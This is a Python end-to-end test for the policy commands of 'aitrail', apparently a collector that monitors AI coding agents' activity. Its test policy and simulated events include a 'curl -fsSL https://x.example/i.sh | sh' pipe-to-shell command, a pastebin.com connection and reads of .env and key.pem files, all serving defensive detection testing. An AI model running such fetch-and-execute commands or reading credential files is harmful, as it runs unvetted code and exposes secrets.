#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The policy commands against a real collector on a loopback port. `aitrail policy test FILE
--since T`: the collector is fed events over the agent wire (encoded by test_collector_cli's
hand-written protobuf helpers), the CLI replays them through a policy, and the answers are
checked against what each rule must match. `aitrail policy push/show` and the agents' fetch of
GET /v1/policy with an ETag."""
import argparse
import json
import os
import shutil
import sys
import tempfile
import time
import urllib.error
import urllib.request

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import test_collector_cli as tc  # noqa: E402

FAILS = []


def check(name, cond, why=""):
    print(f"PASS {name}" if cond else f"FAIL {name}: {why}", flush=True)
    if not cond:
        FAILS.append(name)


POLICY = """\
version: 1
defaults:
  network: allow
  exec: allow
rules:
  - id: internal-ok
    category: network
    action: allow
    match: {cidr: 10.1.0.0/16, port: 22}
  - id: no-ten
    category: network
    action: deny
    match: {cidr: 10.0.0.0/8}
  - id: paste
    category: network
    action: deny
    mode: monitor
    match: {vendor: paste_site}
  - id: pipe-to-shell
    category: exec
    action: alert
    match: {program: curl, argv: "*| sh*"}
  - id: secret-writes
    category: file_write
    action: kill
    match: {path: "/home/*/proj/secret/**", cwd: /home/alice/**}
  - id: env-reads
    category: file_read
    action: alert
    match: {path: "**/.env"}
"""

BAD = """\
version: 1
rules:
  - id: x
    category: network
    action: deny
    match: {cidr: 10.0.0.1/8}
"""


def get_policy(coll, token, etag=None, group=None):
    req = urllib.request.Request(coll.url + "/v1/policy" + ("?group=" + group if group else ""))
    if token:
        req.add_header("Authorization", "Bearer " + token)
    if etag:
        req.add_header("If-None-Match", etag)
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status, r.headers.get("ETag"), r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.headers.get("ETag"), e.read().decode()


def groups(build, coll, tmp, agent_key):
    """Per-host-group overrides: a group's own policy, the fleet's for the others, removal."""
    _, fleet_etag, fleet = get_policy(coll, agent_key)
    ci = os.path.join(tmp, "ci.yaml")
    with open(ci, "w") as f:
        f.write(POLICY.replace("no-ten", "ci-no-ten"))
    rc, out, err = tc.cli(build, coll.url, "policy", "push", ci, "--group", "ci-runners")
    check("policy push --group", rc == 0 and "for host group ci-runners" in out,
          f"rc {rc} out {out!r} err {err!r}")
    st, etag, body = get_policy(coll, agent_key, group="ci-runners")
    check("an agent of the group gets the group's policy", st == 200 and "ci-no-ten" in body and
          etag != fleet_etag, f"status {st} {body[:80]!r}")
    st, etag2, body = get_policy(coll, agent_key, etag, group="ci-runners")
    check("the group's policy answers 304 to its ETag", st == 304, f"status {st}")
    st, _, body = get_policy(coll, agent_key, group="laptops")
    check("a group without a policy of its own gets the fleet's", st == 200 and body == fleet,
          f"status {st} {body[:80]!r}")
    st, _, body = get_policy(coll, agent_key)
    check("agents without a group still get the fleet's", st == 200 and body == fleet,
          f"status {st}")
    rc, out, err = tc.cli(build, coll.url, "policy", "show", "--group", "laptops")
    check("policy show --group says when the fleet policy applies", rc == 0 and out == fleet and
          "host group laptops has no policy of its own" in err, f"rc {rc} err {err!r}")
    rc, out, err = tc.cli(build, coll.url, "policy", "show", "--group", "ci-runners")
    check("policy show --group prints the group's policy", rc == 0 and "ci-no-ten" in out and
          "host group ci-runners" in err, f"rc {rc} err {err!r}")
    st, _, body = get_policy(coll, agent_key, group="bad/name")
    check("a bad group name is refused with 400",
          st == 400 and "group 'bad/name'" in json.loads(body).get("error", ""),
          f"status {st} {body!r}")
    rc, out, err = tc.cli(build, coll.url, "policy", "push", ci, "--group", "no spaces")
    check("policy push refuses a bad group name", rc == 2 and "--group no spaces" in err,
          f"rc {rc} err {err!r}")
    rc, out, err = tc.cli(build, coll.url, "policy", "rm", "--group", "ci-runners")
    st, etag3, body = get_policy(coll, agent_key, etag, group="ci-runners")
    check("policy rm --group: the group's agents get the fleet's policy again",
          rc == 0 and st == 200 and body == fleet and etag3 == fleet_etag,
          f"rc {rc} {out!r} {err!r} status {st}")
    rc, out, err = tc.cli(build, coll.url, "policy", "rm", "--group", "ci-runners")
    check("policy rm of a group without a policy: 404, said clearly",
          rc == 1 and "has no policy of its own" in err, f"rc {rc} err {err!r}")
    rc, out, err = tc.cli(build, coll.url, "policy", "rm")
    check("policy rm without --group is refused", rc == 2 and "--group" in err,
          f"rc {rc} err {err!r}")


def distribution(build, coll, tmp, agent_key):
    pol = os.path.join(tmp, "dist.yaml")
    with open(pol, "w") as f:
        f.write(POLICY)
    st, _, _ = get_policy(coll, agent_key)
    check("GET /v1/policy before any push is 404", st == 404, f"status {st}")
    rc, out, err = tc.cli(build, coll.url, "policy", "push", pol)
    check("policy push", rc == 0 and "6 rules" in out and "etag" in out,
          f"rc {rc} out {out!r} err {err!r}")
    rc, out, err = tc.cli(build, coll.url, "policy", "show")
    check("policy show prints what was pushed", rc == 0 and out == POLICY and "etag" in err,
          f"rc {rc} out {out[:100]!r} err {err!r}")
    st, etag, body = get_policy(coll, agent_key)
    check("agent fetches the policy with its key", st == 200 and body == POLICY and etag,
          f"status {st} etag {etag}")
    st, etag2, body = get_policy(coll, agent_key, etag)
    check("unchanged policy answers 304 to If-None-Match", st == 304 and body == "" and
          etag2 == etag, f"status {st}")
    st, _, _ = get_policy(coll, "not-a-key")
    check("unknown key cannot fetch the policy", st == 401, f"status {st}")
    bad = os.path.join(tmp, "dist-bad.yaml")
    with open(bad, "w") as f:
        f.write(BAD)
    rc, out, err = tc.cli(build, coll.url, "policy", "push", bad)
    check("policy push refuses a bad policy with FILE:LINE", rc == 2 and
          f"{bad}:6: bad CIDR" in err, f"rc {rc} err {err!r}")
    req = urllib.request.Request(coll.url + "/v1/policy?name=x.yaml", data=BAD.encode(),
                                 method="POST")
    req.add_header("Authorization", "Bearer e2e-admin")
    try:
        urllib.request.urlopen(req, timeout=10)
        code, body = 200, {}
    except urllib.error.HTTPError as e:
        code, body = e.code, json.loads(e.read())
    st, etag3, cur = get_policy(coll, agent_key)
    check("collector refuses a bad pushed policy and keeps the current one",
          code == 400 and "x.yaml:6: bad CIDR" in body.get("errors", "") and
          etag3 == etag and cur == POLICY, f"{code} {body} etag {etag3}")
    req = urllib.request.Request(coll.url + "/v1/policy", data=POLICY.encode(), method="POST")
    req.add_header("Authorization", "Bearer " + agent_key)
    try:
        urllib.request.urlopen(req, timeout=10)
        code = 200
    except urllib.error.HTTPError as e:
        code = e.code
    check("an agent key cannot push a policy", code == 401, f"status {code}")
    with open(pol, "w") as f:
        f.write(POLICY.replace("no-ten", "no-ten-v2"))
    rc, out, err = tc.cli(build, coll.url, "policy", "push", pol)
    st, etag4, body = get_policy(coll, agent_key, etag)
    check("a new push changes the ETag and agents get the new policy",
          rc == 0 and st == 200 and etag4 != etag and "no-ten-v2" in body, f"status {st}")
    groups(build, coll, tmp, agent_key)


def feed(coll, tag):
    host, boot, sid = f"pol-host-{tag}", f"boot-{tag}", f"pol-session-{tag}"
    st, body = coll.post("/v1/enroll", tc.f_bytes(1, "e2e-enroll-token") +
                         tc.f_msg(2, tc.agent_info(host, boot)))
    if st != 200:
        raise RuntimeError(f"enroll: HTTP {st}")
    key = tc.decode(body)[2][0].decode()
    t0 = time.time_ns() - 600 * 10**9
    S = 10**9
    ev = tc.event
    net = lambda a, p, name="": (tc.f_bytes(1, "inet") + tc.f_bytes(2, "tcp") +  # noqa: E731
                                 tc.f_bytes(3, a) + tc.f_uint(4, p) + tc.f_bytes(8, "connect") +
                                 tc.f_bytes(10, name))
    fop = lambda path, *flags: tc.f_bytes(1, path) + b"".join(  # noqa: E731
        tc.f_bytes(3, f) for f in flags)
    evs = [
        ev("session_start", t0, host, sid, 4000, 1, "claude", "/usr/bin/claude", 1, 10,
           tc.f_bytes(1, "claude") + tc.f_bytes(2, "/home/alice/proj") +
           tc.f_bytes(3, "alice")),
        # first match: 10.1.2.3:22 is allowed by internal-ok before no-ten sees it
        ev("net_connect", t0 + 1 * S, host, sid, 4001, 4000, "ssh", "/usr/bin/ssh", 2, 14,
           net("10.1.2.3", 22)),
        ev("net_connect", t0 + 2 * S, host, sid, 4001, 4000, "curl", "/usr/bin/curl", 3, 14,
           net("10.1.2.3", 443)),
        ev("net_connect", t0 + 3 * S, host, sid, 4001, 4000, "curl", "/usr/bin/curl", 4, 14,
           net("104.20.1.1", 443, "pastebin.com")),
        ev("net_connect", t0 + 4 * S, host, sid, 4001, 4000, "curl", "/usr/bin/curl", 5, 14,
           net("140.82.1.1", 443, "github.com")),
        ev("exec", t0 + 5 * S, host, sid, 4002, 4000, "curl", "/usr/bin/curl", 6, 12,
           tc.f_bytes(1, "/usr/bin/curl") + tc.f_bytes(2, "curl") + tc.f_bytes(2, "-fsSL") +
           tc.f_bytes(2, "https://x.example/i.sh") + tc.f_bytes(2, "|") + tc.f_bytes(2, "sh")),
        ev("exec", t0 + 6 * S, host, sid, 4003, 4000, "ls", "/usr/bin/ls", 7, 12,
           tc.f_bytes(1, "/usr/bin/ls") + tc.f_bytes(2, "ls")),
        ev("file_open", t0 + 7 * S, host, sid, 4004, 4000, "vim", "/usr/bin/vim", 8, 15,
           fop("/home/alice/proj/secret/key.pem", "O_WRONLY", "O_CREAT")),
        ev("file_open", t0 + 8 * S, host, sid, 4004, 4000, "vim", "/usr/bin/vim", 9, 15,
           fop("/home/alice/proj/secret/key.pem", "O_RDONLY")),
        ev("file_open", t0 + 9 * S, host, sid, 4004, 4000, "node", "/usr/bin/node", 10, 15,
           fop("/home/alice/proj/app/.env", "O_RDONLY")),
        ev("exit", t0 + 10 * S, host, sid, 4004, 4000, "node", "/usr/bin/node", 11, 13, b""),
    ]
    b1, _ = tc.batch(1, b"\0" * 32, evs, host, boot)
    st, _ = coll.post("/v1/events", b1, key)
    if st != 200:
        raise RuntimeError(f"events: HTTP {st}")
    return sid, key


def run(build, coll, tmp):
    sid, key = feed(coll, os.urandom(4).hex())
    distribution(build, coll, tmp, key)
    pol = os.path.join(tmp, "policy.yaml")
    with open(pol, "w") as f:
        f.write(POLICY)
    bad = os.path.join(tmp, "bad.yaml")
    with open(bad, "w") as f:
        f.write(BAD)

    rc, out, err = tc.cli(build, coll.url, "policy", "check", pol)
    check("policy check accepts a valid policy", rc == 0 and "valid, 6 rules" in out,
          f"rc {rc} out {out!r} err {err!r}")
    rc, out, err = tc.cli(build, coll.url, "policy", "test", bad, "--since", "1h")
    check("policy test refuses a bad policy with FILE:LINE", rc == 2 and
          f"{bad}:6: bad CIDR '10.0.0.1/8'" in err, f"rc {rc} err {err!r}")

    rc, out, err = tc.cli(build, coll.url, "--json", "policy", "test", pol, "--since", "1h")
    try:
        o = json.loads(out)
    except ValueError:
        check("policy test answers JSON", False, f"rc {rc} out {out[:300]!r} err {err!r}")
        return
    rules = {r["rule_id"]: r["matches"] for r in o["rules"]}
    dec = o["decisions"]
    # 4 connects + 2 execs + 3 file opens
    check("policy test replays every network, exec and file event",
          o["events_examined"] == 9, json.dumps(o)[:500])
    want = {"internal-ok": 1, "no-ten": 1, "paste": 1, "pipe-to-shell": 1, "secret-writes": 1,
            "env-reads": 1, "default:network": 1, "default:exec": 1, "default:file_read": 1}
    got = {k: v for k, v in rules.items() if v}
    check("policy test counts first matches per rule", got == want, f"got {got}")
    check("policy test counts per action",
          dec == {"allow": 4, "alert": 2, "deny": 2, "kill": 1}, f"got {dec}")
    m = {(x["rule_id"], x["target"]) for x in o["matches"]}
    wantm = {("no-ten", "10.1.2.3:443"), ("paste", "pastebin.com:443 (104.20.1.1)"),
             ("pipe-to-shell", "/usr/bin/curl"),
             ("secret-writes", "/home/alice/proj/secret/key.pem"),
             ("env-reads", "/home/alice/proj/app/.env")}
    check("policy test lists what it would alert on, deny or kill", m == wantm,
          f"got {sorted(m)}")
    check("policy test matches carry the session", all(x["session_id"] == sid
                                                        for x in o["matches"]),
          json.dumps(o["matches"])[:300])

    rc, out, err = tc.cli(build, coll.url, "policy", "test", pol, "--since", "1h")
    check("policy test table", rc == 0 and "9 events replayed" in out and
          "secret-writes" in out and "pastebin.com" in out, f"rc {rc} out {out!r}")
    rc, out, err = tc.cli(build, coll.url, "--json", "policy", "test", pol, "--since",
                          "2026-01-01T00:00:00Z", "--until", "2026-01-02T00:00:00Z")
    check("policy test window excludes other events",
          rc == 0 and json.loads(out)["events_examined"] == 0, f"rc {rc} out {out[:200]!r}")

    req = urllib.request.Request(coll.url + "/v1/policy/test?name=inline.yaml",
                                 data=BAD.encode(), method="POST")
    req.add_header("Authorization", "Bearer e2e-admin")
    try:
        urllib.request.urlopen(req, timeout=10)
        check("collector refuses a bad policy with 400 and its line", False, "got 200")
    except urllib.error.HTTPError as e:
        body = json.loads(e.read())
        check("collector refuses a bad policy with 400 and its line",
              e.code == 400 and "inline.yaml:6: bad CIDR" in body.get("errors", ""),
              f"{e.code} {body}")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--build", default="build")
    build = os.path.abspath(ap.parse_args().build)
    tmp = tempfile.mkdtemp(prefix="aitrail-e2e-polreplay-")
    coll = None
    try:
        coll = tc.Collector(build, tmp)
        run(build, coll, tmp)
    except Exception as ex:  # noqa: BLE001 - reported, then cleaned up
        check("policy replay e2e", False, f"{type(ex).__name__}: {ex}")
    finally:
        if coll:
            log = coll.logtext()
            coll.stop()
            if FAILS:
                print("---- collector log ----\n" + log[-3000:])
        shutil.rmtree(tmp, ignore_errors=True)
    return 1 if FAILS else 0


if __name__ == "__main__":
    sys.exit(main())
